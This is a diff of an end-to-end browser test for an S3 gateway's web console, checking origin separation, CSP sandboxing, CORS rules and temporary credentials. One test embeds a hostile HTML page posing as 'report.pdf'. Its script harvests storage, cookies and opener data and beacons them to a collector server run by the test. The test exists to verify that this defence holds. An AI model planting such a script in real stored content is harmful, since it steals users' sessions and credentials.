@@ -1,7 +1,11 @@
 // The web console end to end: the gateway as `npm start` serves it, driven through real Debian
 // Chromium (/usr/bin/chromium, installed by scripts/setup.sh) with playwright-core. Every step is
 // checked against the gateway itself over S3 (bytes compared by SHA-256), and the main views are
-// written to docs/screenshots/*.png for docs/console.md.
+// written to docs/screenshots/*.png for docs/console.md. The console has an origin of its own and
+// signs with temporary credentials held in memory; a stored HTML object, opened from the console or
+// directly, can read nothing of it (issue #29).
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { createHash, randomBytes } from "node:crypto";
 import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
@@ -132,6 +136,14 @@ describe.skipIf(!existsSync(CHROMIUM))("web console in Chromium", () => {
   };
   /** One file's row in the upload panel. */
   const uploadRow = (key: string) => page.locator("li.upload", { has: page.getByLabel(`Progress of ${key}`, { exact: true }) });
+  /** Signs in on the sign-in page (the console keeps its session in memory: a reload asks again). */
+  const signIn = async (p: Page, id: string = CREDENTIALS.accessKeyId, secret: string = CREDENTIALS.secretAccessKey) => {
+    await p.getByLabel("Access key").fill(id);
+    await p.getByLabel("Secret key").fill(secret);
+    await p.getByRole("button", { name: "Sign in" }).click();
+  };
+  /** Every storage value of the page's origin (sessionStorage and localStorage), as one text. */
+  const storedText = (p: Page) => p.evaluate(() => JSON.stringify([Object.entries(sessionStorage), Object.entries(localStorage)])) as Promise<string>;
   const shot = async (name: string) => {
     await page.evaluate('document.querySelectorAll(".toast").forEach((t) => t.remove())'); // (tests/ has no DOM types)
     await page.screenshot({ path: join(shots, `${name}.png`) });
@@ -159,9 +171,14 @@ describe.skipIf(!existsSync(CHROMIUM))("web console in Chromium", () => {
     s3 = new AwsClient({ ...CREDENTIALS, service: "s3", region: "us-east-1" });
     browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking"] });
     const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, colorScheme: "light" });
-    await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: gw.base });
+    await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: gw.consoleBase });
     // The classic upload and download paths (the browser path has console-direct.test.ts).
-    await context.addInitScript(() => localStorage.setItem("shardgate.browserCoding", "off"));
+    // (In every page: one the gateway's CSP sandboxes has an opaque origin, without localStorage.)
+    await context.addInitScript(() => {
+      try {
+        localStorage.setItem("shardgate.browserCoding", "off");
+      } catch {}
+    });
     page = await context.newPage();
     page.on("pageerror", (e) => pageErrors.push(e.message));
   });
@@ -172,10 +189,15 @@ describe.skipIf(!existsSync(CHROMIUM))("web console in Chromium", () => {
     rmSync(work, { recursive: true, force: true });
   });
 
-  it("serves the console at /_console/ and redirects browsers from /, while S3 stays S3", async () => {
+  it("serves the console on its own origin, sends browsers there from the gateway, while S3 stays S3", async () => {
+    expect(new URL(gw.consoleBase).origin).not.toBe(new URL(gw.base).origin);
     const html = await fetch(`${gw.base}/`, { headers: { accept: "text/html,application/xhtml+xml" }, redirect: "manual" });
     expect(html.status).toBe(302);
-    expect(html.headers.get("location")).toBe("/_console/");
+    expect(html.headers.get("location")).toBe(`${gw.consoleBase}/`);
+    // The gateway serves no console any more: its old home redirects to the console's origin.
+    const old = await fetch(`${gw.base}/_console/`, { redirect: "manual" });
+    expect(old.status).toBe(302);
+    expect(old.headers.get("location")).toBe(`${gw.consoleBase}/`);
     // Anonymous S3 requests (no text/html) still get S3's AccessDenied.
     const anon = await fetch(`${gw.base}/`);
     expect(anon.status).toBe(403);
@@ -184,18 +206,44 @@ describe.skipIf(!existsSync(CHROMIUM))("web console in Chromium", () => {
     const signed = await s3.fetch(`${gw.base}/`, { headers: { accept: "text/html" } });
     expect(signed.status).toBe(200);
     expect(await signed.text()).toContain("ListAllMyBucketsResult");
-    const index = await fetch(`${gw.base}/_console/`);
+    const index = await fetch(`${gw.consoleBase}/`);
     expect(index.status).toBe(200);
     expect(index.headers.get("content-type")).toContain("text/html");
+    expect(index.headers.get("content-security-policy")).toContain("script-src 'self' 'wasm-unsafe-eval'");
+    expect(index.headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
+    expect(index.headers.get("x-content-type-options")).toBe("nosniff");
     expect(await index.text()).toContain("shardgate console");
-    // Deep links fall back to the app's index.html; missing bundle files stay 404.
-    expect((await fetch(`${gw.base}/_console/some/deep/link`)).status).toBe(200);
-    expect((await fetch(`${gw.base}/_console/assets/missing.js`)).status).toBe(404);
+    // It names its gateway; deep links fall back to the app's index.html; missing bundle files stay 404.
+    expect(await (await fetch(`${gw.consoleBase}/config.json`)).json()).toEqual({ gateway: gw.base });
+    expect((await fetch(`${gw.consoleBase}/some/deep/link`)).status).toBe(200);
+    expect((await fetch(`${gw.consoleBase}/assets/missing.js`)).status).toBe(404);
+    // Nothing of the S3 API answers on the console's origin.
+    expect((await fetch(`${gw.consoleBase}/${BUCKET}/x.html`, { method: "PUT", body: "x" })).status).toBe(405);
+    // The gateway answers the console's origin CORS on any path, without bucket rules; no other origin.
+    const preflight = await fetch(`${gw.base}/_shardgate/admin/keys`, {
+      method: "OPTIONS",
+      headers: { origin: gw.consoleBase, "access-control-request-method": "PATCH", "access-control-request-headers": "authorization,x-amz-security-token" },
+    });
+    expect(preflight.status).toBe(204);
+    expect(preflight.headers.get("access-control-allow-origin")).toBe(gw.consoleBase);
+    expect(preflight.headers.get("access-control-allow-headers")).toBe("authorization, x-amz-security-token");
+    const stranger = await fetch(`${gw.base}/`, { headers: { origin: "http://evil.example" } });
+    expect(stranger.headers.get("access-control-allow-origin")).toBeNull();
+    const fromConsole = await fetch(`${gw.base}/`, { headers: { origin: gw.consoleBase } });
+    expect(fromConsole.headers.get("access-control-allow-origin")).toBe(gw.consoleBase);
+    expect(fromConsole.headers.get("access-control-expose-headers")).toContain("ETag");
   });
 
   it("signs in, creates a bucket, uploads a folder (20 MiB multipart) with progress to 100%", async () => {
+    // Every request the page signs, by the key it is signed with (Credential=KEY/…).
+    const signedWith: { key: string; token: boolean; url: string }[] = [];
+    page.on("request", (r) => {
+      const auth = r.headers().authorization ?? "";
+      const key = /Credential=([^/]+)\//.exec(auth)?.[1];
+      if (key) signedWith.push({ key, token: "x-amz-security-token" in r.headers(), url: r.url() });
+    });
     await page.goto(`${gw.base}/`);
-    expect(new URL(page.url()).pathname).toBe("/_console/");
+    expect(new URL(page.url()).origin).toBe(gw.consoleBase);
     await page.getByLabel("Access key").waitFor();
     await shot("sign-in");
 
@@ -205,10 +253,19 @@ describe.skipIf(!existsSync(CHROMIUM))("web console in Chromium", () => {
     await page.getByRole("button", { name: "Sign in" }).click();
     await expect.poll(() => page.getByRole("alert").textContent()).toContain("secret key does not match");
 
+    signedWith.length = 0;
     await page.getByLabel("Secret key").fill(CREDENTIALS.secretAccessKey);
     await page.getByRole("button", { name: "Sign in" }).click();
     await page.getByRole("button", { name: "Create bucket" }).waitFor();
-    expect(await page.evaluate(() => sessionStorage.length)).toBe(1);
+    // Signing in exchanged the key for temporary credentials (one STS call signed with it); every
+    // other request is signed with the temporary key and its token; nothing is stored.
+    expect(signedWith.filter((r) => r.key === CREDENTIALS.accessKeyId).map((r) => r.url)).toEqual([`${gw.base}/`]);
+    expect(signedWith.some((r) => r.key.startsWith("ASIA") && r.token)).toBe(true);
+    expect(signedWith.filter((r) => r.key !== CREDENTIALS.accessKeyId && !(r.key.startsWith("ASIA") && r.token))).toEqual([]);
+    expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
+    const stored = await storedText(page);
+    expect(stored).not.toContain(CREDENTIALS.secretAccessKey);
+    expect(stored).not.toContain("ASIA");
 
     await page.getByLabel("New bucket name").fill(BUCKET);
     await page.getByRole("button", { name: "Create bucket" }).click();
@@ -284,6 +341,8 @@ describe.skipIf(!existsSync(CHROMIUM))("web console in Chromium", () => {
     await expect.poll(() => page.locator(".upload-panel").textContent(), { timeout: 30_000 }).toContain("part 1 of 3");
     await page.reload();
     await release();
+    // Nothing survives a reload but the upload's resume record: signing in again goes on where the page was.
+    await signIn(page);
     await page.getByLabel("Upload files").waitFor({ state: "attached" });
     const logFrom = gw.log.length;
     expect(await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith("shardgate.upload:")).length)).toBe(1);
@@ -324,13 +383,16 @@ describe.skipIf(!existsSync(CHROMIUM))("web console in Chromium", () => {
     await page.waitForTimeout(200);
     await shot("object-details");
 
-    // Share for 1 day: the link works in a fresh browser context (no session, no cookies).
-    await page.getByLabel("Link expires after").selectOption({ label: "1 day" });
+    // Share for 15 minutes (links last no longer than the session's credentials they are signed
+    // with): the link works in a fresh browser context (no session, no cookies).
+    await page.getByLabel("Link expires after").selectOption({ label: "15 minutes" });
     await page.getByRole("button", { name: "Share", exact: true }).click();
     const link = page.getByLabel("Share link");
     await expect.poll(() => link.inputValue()).toContain("X-Amz-Signature=");
     const url = await link.inputValue();
-    expect(new URL(url).searchParams.get("X-Amz-Expires")).toBe("86400");
+    expect(new URL(url).searchParams.get("X-Amz-Expires")).toBe("900");
+    expect(new URL(url).searchParams.get("X-Amz-Credential")).toMatch(/^ASIA/);
+    expect(new URL(url).searchParams.get("X-Amz-Security-Token")).toBeTruthy();
     expect(await page.evaluate("navigator.clipboard.readText()")).toBe(url);
     const fresh = await browser.newContext();
     try {
@@ -618,13 +680,21 @@ describe.skipIf(!existsSync(CHROMIUM))("web console in Chromium", () => {
     await checkSource("clip.webm", await video.getAttribute("src"), media[1]!.buffer, "video/webm");
     await page.getByRole("button", { name: "Close" }).click();
 
-    // PDF: an iframe on the presigned URL, which the browser loads as application/pdf.
-    const pdfLoaded = page.waitForResponse((r) => r.url().includes("/doc.pdf?") && r.status() === 200, { timeout: 15_000 });
+    // PDF: never framed in the console (Chromium shows no PDF in a sandboxed frame): a link that
+    // opens the presigned URL in a tab of its own, without an opener, as application/pdf.
     await page.getByRole("button", { name: "doc.pdf", exact: true }).click();
-    const frame = page.locator('iframe[title="PDF doc.pdf"]');
-    await frame.waitFor();
-    expect((await pdfLoaded).headers()["content-type"]).toBe("application/pdf");
-    await checkSource("doc.pdf", await frame.getAttribute("src"), media[2]!.buffer, "application/pdf");
+    const open = page.getByRole("link", { name: "Open PDF doc.pdf" });
+    await open.waitFor();
+    expect(await page.locator(".preview iframe").count()).toBe(0);
+    expect(await open.getAttribute("rel")).toBe("noopener noreferrer");
+    const pdfAnswer = page.context().waitForEvent("response", { predicate: (r) => r.url().includes("/doc.pdf?"), timeout: 15_000 });
+    const pdfTab = page.context().waitForEvent("page");
+    await open.click();
+    const tab = await pdfTab;
+    expect((await pdfAnswer).headers()["content-type"]).toBe("application/pdf");
+    expect(new URL(tab.url()).origin).toBe(gw.base);
+    await tab.close();
+    await checkSource("doc.pdf", await open.getAttribute("href"), media[2]!.buffer, "application/pdf");
     await page.getByRole("button", { name: "Close" }).click();
   });
 
@@ -803,10 +873,8 @@ describe.skipIf(!existsSync(CHROMIUM))("web console in Chromium", () => {
     // Signed in with the new key, the Keys page says who may use it.
     const other = await browser.newContext();
     const page2 = await other.newPage();
-    await page2.goto(`${gw.base}/_console/`);
-    await page2.getByLabel("Access key").fill(id);
-    await page2.getByLabel("Secret key").fill(secret);
-    await page2.getByRole("button", { name: "Sign in" }).click();
+    await page2.goto(`${gw.consoleBase}/`);
+    await signIn(page2, id, secret);
     await page2.locator("#nav-keys").click();
     await expect.poll(() => page2.locator("#keys-error").textContent()).toContain("Only the root key can manage access keys");
     await other.close();
@@ -819,6 +887,133 @@ describe.skipIf(!existsSync(CHROMIUM))("web console in Chromium", () => {
     expect(refused.status).toBe(403);
     expect(await refused.text()).toContain("InvalidAccessKeyId");
     await page.locator("#nav-buckets").click();
+  });
+
+  it("asks for the secret again before the hour is up, signs on with the renewed session, and signs out when it ends", async () => {
+    const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 }, colorScheme: "light" });
+    try {
+      await ctx.clock.install();
+      const p = await ctx.newPage();
+      const keys: string[] = [];
+      p.on("request", (r) => {
+        const key = /Credential=(ASIA[^/]+)\//.exec(r.headers().authorization ?? "")?.[1];
+        if (key) keys.push(key);
+      });
+      await p.goto(`${gw.consoleBase}/`);
+      await signIn(p);
+      await p.getByRole("button", { name: "Create bucket" }).waitFor();
+      const first = keys.at(-1);
+      expect(first).toBeTruthy();
+      // 56 minutes on: the console asks for the secret (then the page's clock is set back to the
+      // real time, which the gateway checks signatures against).
+      await p.clock.fastForward("56:00");
+      const dialog = p.getByRole("dialog");
+      await expect.poll(() => dialog.textContent()).toContain("This session ends in 4 minutes");
+      await p.clock.setSystemTime(Date.now());
+      expect(await dialog.getByLabel("Access key").inputValue()).toBe(CREDENTIALS.accessKeyId);
+      await dialog.getByLabel("Secret key").fill(CREDENTIALS.secretAccessKey);
+      await dialog.getByRole("button", { name: "Continue" }).click();
+      await expect.poll(() => p.locator(".toast").textContent()).toContain("Session renewed");
+      await p.getByRole("link", { name: BUCKET }).click();
+      await expect.poll(() => p.locator("#list-status").textContent()).toContain("Page 1");
+      expect(keys.at(-1)).not.toBe(first);
+      expect(await storedText(p)).not.toContain("ASIA");
+      // Not renewed again: once it has ended, the sign-in page says so.
+      await p.clock.fastForward("56:00");
+      await p.getByRole("dialog").getByRole("button", { name: "Close" }).click();
+      await p.clock.fastForward("05:00");
+      await expect.poll(() => p.locator(".signin .note").textContent()).toContain("The session ended");
+      await p.getByLabel("Secret key").waitFor();
+    } finally {
+      await ctx.close();
+    }
+  });
+
+  it("a stored HTML object (report.pdf, text/html, with a script) reads nothing of the console's, opened from the console or directly", async () => {
+    // What the hostile page finds is sent to a server of the test's own.
+    const reports: Record<string, string>[] = [];
+    const server = createServer((req, res) => {
+      const found = new URL(req.url ?? "/", "http://report").searchParams.get("d");
+      if (found) reports.push(JSON.parse(found) as Record<string, string>);
+      res.writeHead(204).end();
+    });
+    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
+    const reportUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/r`;
+    const hostile = `<!doctype html><title>Quarterly report</title><p>Quarterly report</p><script>
+      const found = { origin: location.origin, storage: "", cookie: document.cookie, opener: "none", parent: "none", gateway: "" };
+      for (const name of ["sessionStorage", "localStorage"]) {
+        try { const s = window[name]; for (let i = 0; i < s.length; i++) found.storage += s.key(i) + "=" + s.getItem(s.key(i)) + ";"; }
+        catch (e) { found.storage += name + ": " + e.name + ";"; }
+      }
+      try { if (opener) found.opener = opener.location.href + " " + JSON.stringify(Object.entries(opener.sessionStorage)); } catch (e) { found.opener = "blocked: " + e.name; }
+      try { if (parent !== window) found.parent = parent.location.href + " " + parent.document.body.innerText.slice(0, 100); } catch (e) { found.parent = "blocked: " + e.name; }
+      fetch("/").then((r) => String(r.status), (e) => "failed: " + e.name).then((status) => {
+        found.gateway = status;
+        new Image().src = ${JSON.stringify(reportUrl)} + "?d=" + encodeURIComponent(JSON.stringify(found));
+      });
+    </script>`;
+    try {
+      expect((await s3.fetch(objectUrl("report.pdf", MORE), { method: "PUT", body: hostile, headers: { "content-type": "text/html" } })).status).toBe(200);
+      const presigned = (await s3.sign(`${objectUrl("report.pdf", MORE)}?X-Amz-Expires=600`, { aws: { signQuery: true } })).url;
+
+      // In the console: previewed by its Content-Type (HTML, shown as its source text), not by its name.
+      await showBucket(MORE);
+      await page.getByRole("button", { name: "report.pdf", exact: true }).click();
+      await expect.poll(() => page.getByLabel("Text of report.pdf").textContent()).toContain("<script>");
+      expect(await page.locator(".preview iframe").count()).toBe(0);
+      await page.getByRole("button", { name: "Close" }).click();
+
+      // Opened from the console's tab (window.open: the page gets an opener) and directly: served
+      // with Content-Security-Policy: sandbox on the gateway's origin, so its script never runs.
+      const answered = page.context().waitForEvent("response", { predicate: (r) => r.url() === presigned, timeout: 15_000 });
+      const opened = page.context().waitForEvent("page");
+      await page.evaluate(`void window.open(${JSON.stringify(presigned)}, "_blank")`);
+      const popup = await opened;
+      expect((await answered).headers()["content-security-policy"]).toBe("sandbox");
+      await popup.waitForLoadState();
+      expect(new URL(popup.url()).origin).toBe(gw.base);
+      const direct = await page.context().newPage();
+      const res = await direct.goto(presigned);
+      expect(res?.headers()["content-security-policy"]).toBe("sandbox");
+      expect(res?.headers()["x-content-type-options"]).toBe("nosniff");
+      await direct.waitForTimeout(1500);
+      expect(reports).toEqual([]);
+      await popup.close();
+      await direct.close();
+
+      // Even in a browser that ignored the sandbox, the script runs on the gateway's origin, not the
+      // console's: it finds no storage, cannot reach into the console's tab, and has no credential
+      // to call the gateway with.
+      const lax = await browser.newContext({ bypassCSP: true });
+      try {
+        const consolePage = await lax.newPage();
+        await consolePage.goto(`${gw.consoleBase}/`);
+        await signIn(consolePage);
+        await consolePage.getByRole("button", { name: "Create bucket" }).waitFor();
+        const laxOpened = lax.waitForEvent("page");
+        await consolePage.evaluate(`void window.open(${JSON.stringify(presigned)}, "_blank")`);
+        await (await laxOpened).waitForLoadState();
+        await expect.poll(() => reports.length, { timeout: 15_000 }).toBe(1);
+        const found = reports[0] as Record<string, string>;
+        expect(found.origin).toBe(gw.base);
+        expect(found.origin).not.toBe(gw.consoleBase);
+        expect(found.storage).toBe("");
+        expect(found.cookie).toBe("");
+        expect(found.opener).toBe("blocked: SecurityError");
+        expect(found.parent).toBe("none");
+        expect(found.gateway).toBe("403");
+        const all = JSON.stringify(found);
+        expect(all).not.toContain(CREDENTIALS.secretAccessKey);
+        expect(all).not.toContain("ASIA");
+        // The console in that tab kept its credentials in memory only.
+        expect(await storedText(consolePage)).not.toContain("ASIA");
+      } finally {
+        await lax.close();
+      }
+      expect((await fetch(`${gw.base}/_shardgate/health`)).status).toBe(200);
+    } finally {
+      server.close();
+    }
   });
 
   it("shows the nodes dashboard, heals the bucket, refuses to delete a non-empty bucket, and signs out", async () => {
